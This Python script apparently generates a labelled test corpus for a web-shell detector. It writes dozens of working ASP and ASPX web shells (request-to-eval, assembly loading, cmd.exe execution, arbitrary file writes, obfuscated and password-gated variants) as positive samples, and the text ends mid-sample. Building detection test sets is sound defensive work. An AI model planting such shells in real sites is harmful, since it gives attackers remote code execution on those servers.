#!/usr/bin/env python3
"""make_corpus.py: write the web-shell accuracy corpus under tests/accuracy/.

Python 3 standard library only; deterministic (no clock, no os.urandom, no
random module: binary filler comes from an xorshift generator seeded by
SHA-256 of a fixed key).  Every file was written for this project from
descriptions of web-shell shapes; nothing is copied from public shells, rules
or repositories.  All host names, keys, hashes and payloads are made up.

    python3 tests/accuracy/make_corpus.py          # (re)write positive/ and benign/
    python3 tests/accuracy/make_corpus.py --check  # exit 1 if the tree differs

The generator owns positive/ and benign/ completely: a file there that it does
not write is deleted on a normal run (and reported by --check).  Add a case by
adding a call below, rerun, and commit the generator and its output together.
"""
import base64
import hashlib
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
OWNED = ("positive", "benign")
FILES = {}  # relative path -> bytes

# --------------------------------------------------------------------------
# helpers


def encode(text, eol="crlf", enc="utf-8", bom=False):
    """text uses \\n; eol 'crlf' or 'lf'; enc 'utf-8' or 'utf-16le' (always with BOM)."""
    text = text.replace("\r\n", "\n")
    if eol == "crlf":
        text = text.replace("\n", "\r\n")
    if enc == "utf-16le":
        return b"\xff\xfe" + text.encode("utf-16-le")
    data = text.encode("utf-8")
    return (b"\xef\xbb\xbf" + data) if bom else data


def put(rel, text, **kw):
    if rel in FILES:
        raise SystemExit("duplicate corpus path: " + rel)
    FILES[rel] = encode(text, **kw)


def put_bytes(rel, data):
    if rel in FILES:
        raise SystemExit("duplicate corpus path: " + rel)
    FILES[rel] = bytes(data)


def pos(tech, name, text, **kw):
    put("positive/%s/%s" % (tech, name), text, **kw)


def ben(style, name, text, **kw):
    put("benign/%s/%s" % (style, name), text, **kw)


def strip1(s):
    """drop the first newline of a triple-quoted block"""
    return s[1:] if s.startswith("\n") else s


class Rng:
    """xorshift64*; stable across Python versions"""

    M = (1 << 64) - 1

    def __init__(self, key):
        self.s = int.from_bytes(hashlib.sha256(key.encode()).digest()[:8], "little") or 1

    def next(self):
        x = self.s
        x ^= x >> 12
        x ^= (x << 25) & self.M
        x ^= x >> 27
        self.s = x
        return (x * 0x2545F4914F6CDD1D) & self.M

    def below(self, n):
        return self.next() % n

    def raw(self, n):
        out = bytearray()
        while len(out) < n:
            out += self.next().to_bytes(8, "little")
        return bytes(out[:n])

    def junk(self, n):
        """random bytes without '<' (0x3C), so filler never opens a tag or a <% block"""
        return self.raw(n).replace(b"<", b"=")


def md5hex(s):
    return hashlib.md5(s.encode()).hexdigest().upper()


def sha1hex(s):
    return hashlib.sha1(s.encode()).hexdigest().upper()


def sha256hex(s):
    return hashlib.sha256(s.encode()).hexdigest()


def fake_pe(key, n):
    """bytes shaped like a small .NET PE (MZ header, DOS stub text, PE signature) then filler"""
    r = Rng(key)
    hdr = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(7) + b"\x40" + bytes(35))
    hdr += (0x80).to_bytes(4, "little")
    hdr += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    hdr += b"This program cannot be run in DOS mode.\r\r\n$" + bytes(7)
    hdr = hdr.ljust(0x80, b"\x00")
    hdr += b"PE\x00\x00\x4c\x01\x03\x00"
    return bytes(hdr) + r.raw(n - len(hdr))


def b64(data):
    return base64.b64encode(data).decode()


def chunks(s, n):
    return [s[i:i + n] for i in range(0, len(s), n)]


# ==========================================================================
# POSITIVES
# ==========================================================================

# ---- eval-request: request input reaches eval/Execute -------------------
T = "eval-request"

pos(T, "chopper-item.aspx",
    '<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>', eol="lf")

pos(T, "pageload-script.aspx", strip1(r'''
<%@ Page Language="JScript" Debug="false" %>
<html>
<head><title>Service status</title></head>
<body>
<script language="JScript" runat="server">
function Page_Load() {
    eval(Request["pwd"], "unsafe");
}
</script>
<p>Service is running.</p>
</body>
</html>
'''))

pos(T, "execute-request.asp", strip1(r'''
<%@ Language="VBScript" %>
<%
On Error Resume Next
Execute(Request("c"))
%>
<html><body>ok</body></html>
'''))

pos(T, "executeglobal-tabs.asp", "<%\n\tExecuteGlobal\trequest(\"Data\")\n%>\n", eol="lf")

pos(T, "eval-form.asp", strip1(r'''
<%
Dim r
r = Eval(Request.Form("x"))
Response.Write r
%>
'''))

pos(T, "mixed-case-querystring.asp",
    '<html><body>\n<% eXeCuTe(rEqUeSt.QuErYsTrInG("q")) : Response.Write "." %>\n</body></html>\n', eol="lf")

pos(T, "variable-indirection.aspx", strip1(r'''
<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load(sender : Object, e : EventArgs) {
    var k = Request.Form["k"];
    var code = k;
    if (code != null && code.length > 0) {
        eval(code, "unsafe");
    }
}
</script>
<html><body><form method="post" runat="server"></form></body></html>
'''), eol="lf")

pos(T, "jscriptevaluate.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Assembly Name="Microsoft.JScript, Version=10.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    Microsoft.JScript.Vsa.VsaEngine engine = Microsoft.JScript.Vsa.VsaEngine.CreateEngine();
    object result = Microsoft.JScript.Eval.JScriptEvaluate(Request["x"], engine);
    Response.Write(Convert.ToString(result));
}
</script>
'''))

pos(T, "jscriptevaluate-header.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="StatusHandler" %>
using System;
using System.Web;
using Microsoft.JScript;
using Microsoft.JScript.Vsa;

public class StatusHandler : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        context.Response.ContentType = "text/plain";
        string h = context.Request.Headers["X-Data"];
        if (String.IsNullOrEmpty(h)) { context.Response.Write("OK"); return; }
        object o = Eval.JScriptEvaluate(h, VsaEngine.CreateEngine());
        context.Response.Write(o);
    }

    public bool IsReusable { get { return false; } }
}
'''), eol="lf")

pos(T, "spaced-upper-utf16.aspx", strip1(
    '<%@ Page Language = "Jscript" %>\n'
    '<%\n'
    '\tEVAL ( Request . Item [ "x" ] ,\n'
    '\t       "unsafe"\n'
    '\t     ) ;\n'
    '%>\n'), enc="utf-16le")

pos(T, "handler-jscript.ashx", strip1(r'''
<%@ WebHandler Language="JScript" Class="Ping" %>
import System;
import System.Web;

public class Ping implements IHttpHandler {
    function ProcessRequest(ctx : HttpContext) {
        ctx.Response.Write("pong");
        var p = ctx.Request.Params["t"];
        if (p) eval(p, "unsafe");
    }
    function get IsReusable() : Boolean { return false; }
}
'''), eol="lf")

pos(T, "cookie-value-bom.aspx", strip1(r'''
<%@ Page Language="JScript" validateRequest="false" %>
<script language="jscript" runat="server">
function Page_Load(){
  var c = Request.Cookies["ASP.NET_SessionKey"];
  if (c != null) eval(c.Value, "unsafe");
}
</script>
'''), bom=True)

pos(T, "context-querystring.aspx", strip1(r'''
<%@ Page Language="JScript"%>
<%
var q = Context.Request.QueryString["q"];
Response.Write(eval(q));
%>
'''))

# ---- assembly-load: request bytes become a loaded assembly ---------------
T = "assembly-load"

pos(T, "b64-form-createinstance.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    if (Request.HttpMethod != "POST") return;
    Assembly.Load(Convert.FromBase64String(Request.Form["d"])).CreateInstance("Loader").Equals(Context);
}
</script>
'''), eol="lf")

pos(T, "binaryread-invoke.aspx", strip1(r'''
<%@ Page Language="C#" EnableViewState="false" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    byte[] body = Request.BinaryRead(Request.ContentLength);
    if (body.Length == 0) { Response.StatusCode = 404; return; }
    System.Reflection.Assembly asm = System.Reflection.Assembly.Load(body);
    object unit = asm.CreateInstance("Unit");
    unit.GetType().GetMethod("Run").Invoke(unit, new object[] { Context });
}
</script>
'''))

pos(T, "inputstream-copyto.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="Sync" %>
using System;
using System.IO;
using System.Reflection;
using System.Web;

public class Sync : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        using (MemoryStream ms = new MemoryStream())
        {
            context.Request.InputStream.CopyTo(ms);
            Assembly a = Assembly.Load(ms.ToArray());
            MethodInfo m = a.EntryPoint;
            m.Invoke(null, new object[] { new string[0] });
        }
        context.Response.Write("done");
    }

    public bool IsReusable { get { return true; } }
}
'''), eol="lf")

pos(T, "inputstream-appdomain.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e)
{
    BinaryReader br = new BinaryReader(Request.InputStream);
    byte[] raw = br.ReadBytes((int)Request.InputStream.Length);
    AppDomain.CurrentDomain.Load(raw).GetType("Plugin").GetMethod("Go").Invoke(null, null);
}
</script>
'''))

pos(T, "compile-source.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<%@ Import Namespace="Microsoft.CSharp" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string src = Request["src"];
    if (src == null) return;
    CSharpCodeProvider provider = new CSharpCodeProvider();
    CompilerParameters cp = new CompilerParameters();
    cp.GenerateInMemory = true;
    cp.ReferencedAssemblies.Add("System.dll");
    cp.ReferencedAssemblies.Add("System.Web.dll");
    CompilerResults cr = provider.CompileAssemblyFromSource(cp, src);
    if (cr.Errors.HasErrors)
    {
        foreach (CompilerError ce in cr.Errors) Response.Write(Server.HtmlEncode(ce.ErrorText) + "<br/>");
        return;
    }
    object o = cr.CompiledAssembly.CreateInstance("Job");
    o.GetType().GetMethod("Run").Invoke(o, new object[] { Context });
}
</script>
'''))

pos(T, "appdomain-params-utf16.aspx", strip1(r'''
<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string p = Request.Params["p"];
    if (p != null)
    {
        var asm = AppDomain.CurrentDomain.Load(Convert.FromBase64String(p));
        asm.CreateInstance("Q").Equals(this);
    }
}
</script>
'''), enc="utf-16le")

pos(T, "vbnet-bracket-assembly.aspx", strip1(r'''
<%@ Page Language="VB" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs)
    Dim raw As Byte() = Convert.FromBase64String(Request.Form("asm"))
    Dim a As [Assembly] = [Assembly].Load(raw)
    a.CreateInstance("Runner").Equals(Context)
End Sub
</script>
'''))

pos(T, "jscript-load.aspx", strip1(r'''
<%@ Page Language="JScript" %>
<%
var b = System.Convert.FromBase64String(Request.Item["b"]);
var t = System.Reflection.Assembly.Load(b).GetType("Z");
t.GetMethod("Main").Invoke(null, null);
%>
'''), eol="lf")

pos(T, "spaced-webmethod.asmx", strip1(r'''
<%@ WebService Language="C#" Class="ReportService" %>
using System;
using System.Web;
using System.Web.Services;

[WebService(Namespace = "http://tempuri.org/")]
public class ReportService : WebService
{
    [WebMethod]
    public string Render(string template)
    {
        byte[] data = Convert.FromBase64String(
            Context.Request.Headers [ "X-Template" ]
        );
        object r = System.Reflection.Assembly
            .Load ( data )
            .CreateInstance ( "Render" );
        return r == null ? "" : r.ToString();
    }
}
'''))

pos(T, "vbcodeprovider.aspx", strip1(r'''
<%@ Page Language="VB" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<script runat="server">
Protected Sub Page_Load(sender As Object, e As EventArgs)
    Dim code As String = Request.QueryString("code")
    Dim prov As New Microsoft.VisualBasic.VBCodeProvider()
    Dim opts As New CompilerParameters()
    opts.GenerateInMemory = True
    Dim res As CompilerResults = prov.CompileAssemblyFromSource(opts, code)
    res.CompiledAssembly.CreateInstance("Task")
End Sub
</script>
'''), eol="lf")

# ---- process-exec: request input reaches a process start -----------------
T = "process-exec"

pos(T, "cmd-concat.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    if (Request["c"] == null) return;
    Process.Start("cmd.exe", "/c " + Request["c"]);
    Response.Write("started");
}
</script>
'''))

pos(T, "psi-properties.aspx", strip1(r'''
<%@ Page Language="C#" Debug="true" %>
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
void Run(object sender, EventArgs e)
{
    string cmd = Request.Form["q"];
    ProcessStartInfo psi = new ProcessStartInfo();
    psi.FileName = "cmd.exe";
    psi.Arguments = "/c " + cmd;
    psi.UseShellExecute = false;
    psi.RedirectStandardOutput = true;
    psi.CreateNoWindow = true;
    Process p = Process.Start(psi);
    StreamReader sr = p.StandardOutput;
    output.Text = Server.HtmlEncode(sr.ReadToEnd());
}
</script>
<html><body>
<form runat="server">
<asp:TextBox ID="q" runat="server" Width="600" />
<asp:Button ID="go" runat="server" Text="Run" OnClick="Run" />
<pre><asp:Literal ID="output" runat="server" /></pre>
</form>
</body></html>
'''), eol="lf")

pos(T, "wscript-exec.asp", strip1(r'''
<%
Set sh = CreateObject("WScript.Shell")
Set ex = sh.Exec("cmd /c " & Request("c"))
Response.Write "<pre>" & Server.HTMLEncode(ex.StdOut.ReadAll()) & "</pre>"
%>
'''))

pos(T, "wscript-run-upper.asp", strip1(r'''
<%
Dim k
k = request.form("k")
Server.CreateObject("WSCRIPT.SHELL").Run "cmd.exe /c " & k & " > C:\Windows\Temp\o.txt", 0, True
Response.Write CreateObject("Scripting.FileSystemObject").OpenTextFile("C:\Windows\Temp\o.txt").ReadAll
%>
'''), eol="lf")

pos(T, "filename-from-form-utf16.aspx", strip1(r'''
<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    var psi = new System.Diagnostics.ProcessStartInfo();
    psi.FileName = Request.Form["f"];
    psi.Arguments = Request.Form["a"];
    psi.UseShellExecute = false;
    psi.RedirectStandardOutput = true;
    var proc = System.Diagnostics.Process.Start(psi);
    Response.Write(proc.StandardOutput.ReadToEnd());
}
</script>
'''), enc="utf-16le")

pos(T, "vbnet-startinfo.aspx", strip1(r'''
<%@ Page Language="VB" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim x As String = Request.QueryString("x")
    If String.IsNullOrEmpty(x) Then Return
    Dim p As New Process()
    p.StartInfo.FileName = "cmd.exe"
    p.StartInfo.Arguments = "/c " & x
    p.StartInfo.UseShellExecute = False
    p.StartInfo.RedirectStandardOutput = True
    p.Start()
    Response.Write(Server.HtmlEncode(p.StandardOutput.ReadToEnd()))
End Sub
</script>
'''))

pos(T, "jscript-process.aspx", strip1(r'''
<%@ Page Language="JScript" %>
<%
var si = new System.Diagnostics.ProcessStartInfo("cmd.exe");
si.Arguments = "/c " + Request.Item["cmd"];
si.UseShellExecute = false;
si.RedirectStandardOutput = true;
var pr = System.Diagnostics.Process.Start(si);
Response.Write(pr.StandardOutput.ReadToEnd());
%>
'''), eol="lf")

pos(T, "powershell-header-tabs.ashx", strip1(
    '<%@ WebHandler Language="C#" Class="Telemetry" %>\n'
    'using System;\nusing System.Web;\nusing System.Diagnostics;\n\n'
    'public class Telemetry : IHttpHandler\n{\n'
    '\tpublic void ProcessRequest(HttpContext context)\n\t{\n'
    '\t\tstring task = context.Request.Headers["X-Task"];\n'
    '\t\tif (task == null) { context.Response.StatusCode = 204; return; }\n'
    '\t\tvar info = new ProcessStartInfo("powershell.exe", "-NoProfile -NonInteractive -Command " + task)\n'
    '\t\t{\n\t\t\tUseShellExecute = false,\n\t\t\tRedirectStandardOutput = true,\n\t\t\tCreateNoWindow = true\n\t\t};\n'
    '\t\tusing (var proc = System.Diagnostics.Process.Start(info))\n\t\t{\n'
    '\t\t\tcontext.Response.Write(proc.StandardOutput.ReadToEnd());\n\t\t}\n\t}\n\n'
    '\tpublic bool IsReusable { get { return false; } }\n}\n'))

pos(T, "ctor-linebreaks.aspx", strip1(r'''
<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e)
{
    System . Diagnostics . Process . Start (
        new System.Diagnostics.ProcessStartInfo (
            "cmd.exe" ,
            "/c " +
            Request . QueryString [ "c" ]
        )
        { UseShellExecute = false }
    );
}
</script>
'''))

# ---- file-write: request controls where (and what) is written ------------
T = "file-write"

pos(T, "files-saveas-param.aspx", strip1(r'''
<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    if (Request.Files.Count > 0)
    {
        Request.Files[0].SaveAs(Request["path"]);
        Response.Write("saved");
    }
}
</script>
'''), eol="lf")

pos(T, "saveas-mappath.aspx", strip1(r'''
<%@ Page Language="C#" %>
<script runat="server">void Page_Load(object sender, EventArgs e){if (Request.Files.Count!=0) { Request.Files[0].SaveAs(Server.MapPath(Request.QueryString["n"]));}}</script>
<html><body><form method="post" enctype="multipart/form-data"><input type="file" name="f"/><input type="submit"/></form></body></html>
'''))

pos(T, "writeallbytes.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%
if (Request["p"] != null && Request["d"] != null)
{
    File.WriteAllBytes(Request["p"], Convert.FromBase64String(Request["d"]));
    Response.Write("1");
}
%>
'''))

pos(T, "streamwriter-form.aspx", strip1(r'''
<script language="c#" runat="server">
void Page_Load(object sender, EventArgs e)
{
    System.IO.StreamWriter writer = new System.IO.StreamWriter(Request.Form["f"], false);
    writer.Write(Request.Form["c"]);
    writer.Close();
}
</script>
'''), eol="lf")

pos(T, "adodb-stream-text.asp", strip1(r'''
<%@ Language="VBScript" CodePage="65001" %>
<%
Dim st
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 2
st.Charset = "utf-8"
st.Open
st.WriteText Request.Form("body")
st.SaveToFile Request("path"), 2
st.Close
Set st = Nothing
Response.Write "ok"
%>
'''))

pos(T, "adodb-stream-binary.asp", strip1(r'''
<%
Set s = CreateObject("ADODB.Stream")
s.Type = 1 : s.Open
s.Write Request.BinaryRead(Request.TotalBytes)
s.SaveToFile Server.MapPath(Request.QueryString("p")), 2
s.Close
%>
'''), eol="lf")

pos(T, "fso-createtextfile.asp", strip1(r'''
<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(Request("f"), True)
f.Write Request("t")
f.Close
%>
'''))

pos(T, "writealltext-utf16.aspx", strip1(r'''
<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string name = Request.Params["name"];
    string body = Request.Params["body"];
    System.IO.File.WriteAllText(Server.MapPath("~/") + name, body);
}
</script>
'''), enc="utf-16le")

pos(T, "vbnet-saveas.aspx", strip1(r'''
<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    If Request.Files.Count = 0 Then Exit Sub
    Dim f As HttpPostedFile = Request.Files("up")
    f.SaveAs(Request.Form("to"))
End Sub
</script>
'''))

pos(T, "jscript-filestream.aspx", strip1(r'''
<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load() {
    var b = System.Convert.FromBase64String(Request.Item["b"]);
    var fs = new System.IO.FileStream(Request.Item["t"], System.IO.FileMode.Create);
    fs.Write(b, 0, b.length);
    fs.Close();
}
</script>
'''), eol="lf")

pos(T, "handler-header-path.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="Store" %>
using System.Web;

public class Store : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        string target = context.Request.Headers["X-Path"];
        string where = target;
        HttpPostedFile up = context.Request.Files[0];
        up.SaveAs(where);
        context.Response.Write("{\"ok\":true}");
    }

    public bool IsReusable { get { return false; } }
}
'''))

pos(T, "case-spaced-lines.aspx", strip1(
    '<%@ PAGE LANGUAGE="C#" %>\n'
    '<SCRIPT RUNAT="SERVER">\n'
    'void page_load(object s, EventArgs e)\n{\n'
    '\tSystem.IO.File . WriteAllText (\n'
    '\t\tRequest . Form [ "p" ] ,\n'
    '\t\tRequest.Form["b"]\n'
    '\t) ;\n}\n'
    '</SCRIPT>\n'))

# ---- decode-exec: a decoded payload becomes code -------------------------
T = "decode-exec"

pos(T, "eval-b64-utf8.aspx",
    '<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.UTF8.GetString('
    'System.Convert.FromBase64String(Request["z"])),"unsafe");%>', eol="lf")

pos(T, "eval-b64-variable.aspx", strip1(r'''
<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load() {
    var raw = Request.Item["e"];
    var dec = System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(raw));
    eval(dec, "unsafe");
}
</script>
'''))

pos(T, "xor-assembly.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
static readonly byte[] K = { 0x3a, 0x91, 0x5c, 0x07, 0xe2, 0x48, 0x16, 0xbd };

protected void Page_Load(object sender, EventArgs e)
{
    byte[] data = Convert.FromBase64String(Request.Form["pay"]);
    for (int i = 0; i < data.Length; i++)
        data[i] ^= K[i % K.Length];
    Assembly.Load(data).CreateInstance("Stage").Equals(Context);
}
</script>
'''))

pos(T, "xor-session-key.aspx", strip1(r'''
<%@ Page Language="C#" EnableSessionState="true" %>
<script runat="server">
void Page_Load(object s, EventArgs e)
{
    if (Session["k"] == null) Session["k"] = "9c1f04d2a77b3e60";
    byte[] k = System.Text.Encoding.Default.GetBytes((string)Session["k"]);
    byte[] c = Request.BinaryRead(Request.ContentLength);
    for (int i = 0; i < c.Length; i++) c[i] = (byte)(c[i] ^ k[(i + 1) & 15]);
    System.Reflection.Assembly.Load(c).CreateInstance("U").Equals(this);
}
</script>
'''), eol="lf")

_stager = b64(fake_pe("stager-1", 1200))
pos(T, "embedded-stager.aspx", strip1('''
<%@ Page Language="C#" %>
<script runat="server">
const string Blob = "''' + _stager + '''";

protected void Page_Load(object sender, EventArgs e)
{
    System.Reflection.Assembly.Load(Convert.FromBase64String(Blob)).CreateInstance("Agent");
}
</script>
'''))

_stager2 = "\n".join(chunks(b64(fake_pe("stager-2", 560)), 76))
pos(T, "embedded-verbatim-utf16.aspx", strip1('''
<%@ Page Language="C#" %>
<script runat="server">
static string payload = @"
''' + _stager2 + '''
";

protected void Page_Load(object sender, EventArgs e)
{
    byte[] image = Convert.FromBase64String(payload);
    AppDomain.CurrentDomain.Load(image).CreateInstance("Svc");
}
</script>
'''), enc="utf-16le")

_stager3 = b64(fake_pe("stager-3", 700))
pos(T, "vbnet-embedded-const.aspx", strip1('''
<%@ Page Language="VB" %>
<script runat="server">
Private Const B As String = "''' + _stager3 + '''"

Sub Page_Load(sender As Object, e As EventArgs)
    System.Reflection.Assembly.Load(Convert.FromBase64String(B)).CreateInstance("Agent")
End Sub
</script>
'''), eol="lf")

pos(T, "vbs-base64-execute.asp", strip1(r'''
<%
Function D(s)
    Dim x, st
    Set x = CreateObject("Msxml2.DOMDocument").createElement("b")
    x.DataType = "bin.base64"
    x.Text = s
    Set st = CreateObject("ADODB.Stream")
    st.Type = 1 : st.Open : st.Write x.NodeTypedValue
    st.Position = 0 : st.Type = 2 : st.Charset = "us-ascii"
    D = st.ReadText
    st.Close
End Function

Execute D(Request("p"))
%>
'''))

pos(T, "gzip-assembly.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="Cache" %>
using System;
using System.IO;
using System.IO.Compression;
using System.Web;

public class Cache : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        byte[] packed = Convert.FromBase64String(context.Request.Form["g"]);
        using (var input = new GZipStream(new MemoryStream(packed), CompressionMode.Decompress))
        using (var output = new MemoryStream())
        {
            input.CopyTo(output);
            System.Reflection.Assembly.Load(output.ToArray()).CreateInstance("Job");
        }
    }

    public bool IsReusable { get { return false; } }
}
'''), eol="lf")

pos(T, "hex-fromcharcode-eval.aspx", strip1(r'''
<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load() {
    var h = Request.Form["h"], s = "";
    for (var i = 0; i < h.length; i += 2)
        s += String.fromCharCode(parseInt(h.substr(i, 2), 16));
    eval(s, "unsafe");
}
</script>
'''))

pos(T, "linebreaks-assembly.aspx", strip1(r'''
<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    var bytes = Convert
        .FromBase64String(
            Request [ "d" ]
        );
    System.Reflection.Assembly
        . Load ( bytes )
        . CreateInstance ( "Z" );
}
</script>
'''), eol="lf")

# ---- obfuscated: names and strings hidden --------------------------------
T = "obfuscated"

pos(T, "array-lookup.aspx", strip1(r'''
<%@ Page Language="JScript" %>
<script runat="server">
var _0x4a2b = ['Item', 'pwd', 'unsafe'];
function Page_Load() {
    eval(Request[_0x4a2b[0x0]][_0x4a2b[0x1]], _0x4a2b[0x2]);
}
</script>
'''), eol="lf")

pos(T, "array-function-escapes.aspx",
    '<%@ Page Language="JScript" Debug="false"%><script runat="server">'
    "var _0x2c1d=['\\x75\\x6e\\x73\\x61\\x66\\x65','\\x63\\x6f\\x64\\x65'];"
    "var _0x55aa=function(_0x1a,_0x2b){_0x1a=_0x1a-0x0;return _0x2c1d[_0x1a];};"
    "function Page_Load(){var _0x3e9f=Request[_0x55aa('0x1')];eval(_0x3e9f,_0x55aa('0x0'));}"
    "</script>\n")

pos(T, "array-no-request-token.aspx", strip1(r'''
<%@ Page Language="JScript" %>
<script runat="server">
var _0x1f7c = ['Request', 'Item', 'q', 'unsafe'];
function Page_Load() {
    var _0x9a = this[_0x1f7c[0x0]][_0x1f7c[0x1]][_0x1f7c[0x2]];
    eval(_0x9a, _0x1f7c[0x3]);
}
</script>
'''))


def vb_chr(s):
    return "&".join("Chr(%d)" % ord(c) for c in s)


_chr = vb_chr('ExecuteGlobal Request("t")')
_half = _chr.find("&", len(_chr) // 2)
pos(T, "chr-execute.asp",
    "<%\nDim s\ns = " + _chr[:_half] + " _\n    " + _chr[_half:] + "\nExecute s\n%>\n")

pos(T, "chrw-hex-array.asp",
    "<%\nFunction J(a)\n    Dim i, r\n    For i = 0 To UBound(a)\n        r = r & ChrW(a(i))\n    Next\n"
    "    J = r\nEnd Function\n\nExecute J(Array(" +
    ",".join("&H%X" % ord(c) for c in 'Execute(Request("z"))') + "))\n%>\n", eol="lf")

pos(T, "strreverse.asp",
    '<%\r\nExecute Eval(StrReverse(")""q""(mroF.tseuqeR"))\r\n%>\r\n')

pos(T, "fromcharcode-utf16.aspx", strip1(r'''
<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load() {
    var n = String.fromCharCode(0x63, 0x6d, 0x64);
    var src = Request.Form[n];
    eval(src, String.fromCharCode(117, 110, 115, 97, 102, 101));
}
</script>
'''), enc="utf-16le")

pos(T, "unescape-eval.aspx",
    '<%@ Page Language="JScript"%><%var _p=unescape(\''
    + "".join("%%%02x" % ord(c) for c in 'Request.Form["v"]')
    + "');eval(eval(_p),unescape('"
    + "".join("%%%02x" % ord(c) for c in "unsafe")
    + "'));%>\n", eol="lf")


def script_encoded(plain, key):
    """Shape of a Windows Script Encoder block: #@~^ + 6-char length + '==' +
    body + 6-char checksum + '==^#~@'.  The body is a substitution made up for
    this corpus, NOT the real encoder tables, so it does not decode."""
    r = Rng(key)
    alphabet = [chr(c) for c in range(0x21, 0x7f) if chr(c) not in "<>@"]
    perm = alphabet[:]
    for i in range(len(perm) - 1, 0, -1):
        j = r.below(i + 1)
        perm[i], perm[j] = perm[j], perm[i]
    table = dict(zip(alphabet, perm))
    body = []
    for c in plain.replace("\r\n", "\n"):
        if c == "\n":
            body.append("@#@&")
        elif c in "<>@":
            body.append({"<": "@!", ">": "@*", "@": "@$"}[c])
        elif c in table:
            body.append(table[c])
        else:
            body.append(c)
    body = "".join(body)
    length = b64(len(body).to_bytes(4, "little"))[:6]
    check = b64((sum(map(ord, plain)) & 0xFFFFFF).to_bytes(4, "little"))[:6]
    return "#@~^" + length + "==" + body + check + "==^#~@"


pos(T, "script-encoded-block.asp",
    '<%@ LANGUAGE="VBScript.Encode" %>\n<%' +
    script_encoded('\nIf Request("k") <> "" Then\n  Execute Request("k")\nEnd If\n', "enc-1") +
    "%>\n<html><body>Maintenance</body></html>\n")

pos(T, "script-encoded-runat.asp",
    '<script language="VBScript.Encode" runat="server">' +
    script_encoded('\nSub Main\n  ExecuteGlobal Request.Form("data")\nEnd Sub\nMain\n', "enc-2") +
    "</script>\n", eol="lf")

# ---- password-gate: a secret compared before running another parameter --
T = "password-gate"

pos(T, "plain-compare-eval.aspx", strip1(r'''
<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load() {
    if (Request.Form["pass"] == "Xq9!vR2m") {
        eval(Request.Form["code"], "unsafe");
    } else {
        Response.StatusCode = 404;
    }
}
</script>
'''))

pos(T, "hashpassword-md5.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Web.Security" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string k = Request["k"];
    if (k == null || FormsAuthentication.HashPasswordForStoringInConfigFile(k, "MD5") != "''' + md5hex("corpus-gate-one") + r'''")
    {
        Response.StatusCode = 404;
        return;
    }
    Process p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + Request["c"]) { UseShellExecute = false, RedirectStandardOutput = true });
    Response.Write(p.StandardOutput.ReadToEnd());
}
</script>
'''), eol="lf")

pos(T, "computehash-bitconverter.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Security.Cryptography" %>
<%@ Import Namespace="System.Text" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string key = Request.Headers["X-Key"] ?? "";
    byte[] h = MD5.Create().ComputeHash(Encoding.UTF8.GetBytes(key));
    if (BitConverter.ToString(h).Replace("-", "") == "''' + md5hex("corpus-gate-two") + r'''")
    {
